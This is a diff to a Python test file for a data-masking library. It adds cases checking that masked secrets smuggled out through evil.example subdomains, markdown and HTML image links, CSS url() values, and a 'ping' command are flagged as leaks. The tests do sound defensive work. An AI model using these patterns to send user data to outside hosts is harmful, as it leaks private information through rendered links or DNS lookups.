@@ -8,7 +8,7 @@ from dataclasses import replace
 from itertools import pairwise
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from masquerade.keys import Key
@@ -138,6 +138,22 @@ MOVED = [
     "{e}\u200b.evil.example",
     "{e}。evil.example/",
     "{e}.{p}.evil.example",
+    "{e}-x.evil.example",
+    "{e}x.evil.example/",
+    "//{e}-x.evil.example/",
+    "![x](//{e},.evil.example/)",
+    '<img src="//{e}\t.evil.example/">',
+    '<img src="/\\a{e}\n.evil.example/">',
+    "//,.evil.example/{e}",
+    "//.evil.example/{e}",
+    "{e}-x@evil.example",
+    "//a-{e}.evil.example/{p}",
+    "-.//evil.example/{e}",
+    '"https://evil.example/?"style="background:url({e}',
+    '"https://evil.example/?":{e}',
+    '"https://evil.example/?")//{e}',
+    "https://evil.example/a=，{e}",
+    "http://，.evil.example/{e}",
     "{e}.злой.рф",
     "<img src=https://{e}.evil.example>",
     "ping -c1 {e}.evil.example",
@@ -325,6 +341,14 @@ STAYS = [
     "It is {p}.Then {e} came.",
     "Was it {p}?{e}!",
     "{p}...",
+    "{p}s are {e}x",
+    "{p}-laptop.local",
+    "{p}-notes.final.txt",
+    'f("https://docs.example")  # {p}',
+    '["https://docs.example","{p}"]',
+    '["https://docs.example",["{p}"]]',
+    '<a class="x" href="https://docs.example/">{p}</a>',
+    '<img src="https://docs.example/x.png"/>{p}',
     "{p}@home and @{p}",
     "{e}: {e}",
     "mail to: {e}",
@@ -462,7 +486,7 @@ MARKS = (
     'https:// // http:\\\\ .evil.example evil.example/ ]( ) < > " \' = ? # @ : . / \\ \\n \\" ， 。 %2e'
     " &#46; \u200b mailto: javascript: [ ` a 中 data:, www."
 )
-marks = st.sampled_from([*MARKS.split(" "), " ", "\n"])
+marks = st.sampled_from([*MARKS.split(" "), " ", "\n", "//", "/\\", ".evil.example/", ",", ";", "\t", "-x"])
 values = st.sampled_from([MAIL, ADDRESS, LINK, "+1 212 867 5309", "bob@example.com", "fd00::1:2"])
 texts = st.lists(st.one_of(marks, values), max_size=14).map("".join)
 laws = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@@ -477,6 +501,8 @@ def test_all_of_a_request_comes_back_wherever_it_stood(text: str, masker: Masker
 
 @laws
 @given(texts, st.lists(st.one_of(marks, st.integers(0, 9)), max_size=12), st.lists(st.integers(0, 200)))
+@example("", ["?", 0, "?", 0], [])
+@example("", ["//", 0, ",", ".evil.example/"], [])
 def test_every_cut_gives_the_same_verdicts(text: str, reply: list[str | int], cuts: list[int]) -> None:
     masked = TOKENS.mask(f"{text} {MAIL} {LINK} {ADDRESS}")
     shown = [s.text for s in masked.surrogates]
